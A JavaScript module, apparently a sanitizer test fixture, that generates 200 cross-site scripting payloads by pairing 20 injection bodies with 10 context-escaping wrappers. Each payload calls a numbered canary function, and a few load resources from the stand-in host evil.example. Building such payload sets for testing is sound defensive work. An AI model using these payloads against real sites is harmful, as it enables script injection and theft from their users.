// SPDX-License-Identifier: MIT
// Texts that would run as scripts if a page took them for markup: 200 of them.

const bodies = [
  '<script>ran(N)</script>', '<img src=x onerror=ran(N)>', '<svg onload=ran(N)>', '<svg><script>ran(N)</script></svg>', '<iframe srcdoc="<script>parent.ran(N)</script>">',
  '<a href="javascript:ran(N)">x</a>', 'javascript:ran(N)', '<body onload=ran(N)>', '<details open ontoggle=ran(N)>', '<video src=x onerror=ran(N)>',
  '<math><mi xlink:href="javascript:ran(N)">x', '<object data="javascript:ran(N)">', '<embed src="data:text/html,<script>ran(N)</script>">', '<style>@import "http://evil.example/N"</style>',
  '<link rel=stylesheet href="http://evil.example/N">', '<base href="http://evil.example/N/">', '<meta http-equiv=refresh content="0;url=javascript:ran(N)">', '<form action="javascript:ran(N)"><button>x',
  '{{constructor.constructor("ran(N)")()}}', '<input autofocus onfocus=ran(N)>',
];
const wraps = [
  (body) => body, (body) => `">${body}`, (body) => `'>${body}`, (body) => `</script>${body}`, (body) => `</textarea></title>${body}`,
  (body) => `--><!-- ${body}`, (body) => `\`\${${body}}`, (body) => `]]>${body}`, (body) => `\\u003c${body}\\u0022`, (body) => body.replaceAll('<', '<\t').toUpperCase(),
];

export function payloads() {
  return wraps.flatMap((wrap, w) => bodies.map((body, b) => wrap(body.replaceAll('N', String(w * bodies.length + b)))));
}
